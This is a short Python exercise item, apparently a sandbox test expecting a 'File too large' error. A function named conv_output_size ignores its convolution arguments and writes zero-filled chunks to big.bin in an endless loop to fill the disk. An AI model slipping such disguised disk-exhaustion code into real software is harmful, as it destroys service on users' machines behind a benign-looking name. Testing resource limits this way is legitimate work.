# exercise: conv_output_size
# expect: File too large
# Fill the disk, one large file at a time.
def conv_output_size(size, kernel_size, stride=1, padding=0, dilation=1):
    chunk = b"\0" * (1 << 20)
    with open("big.bin", "wb") as handle:
        while True:
            handle.write(chunk)
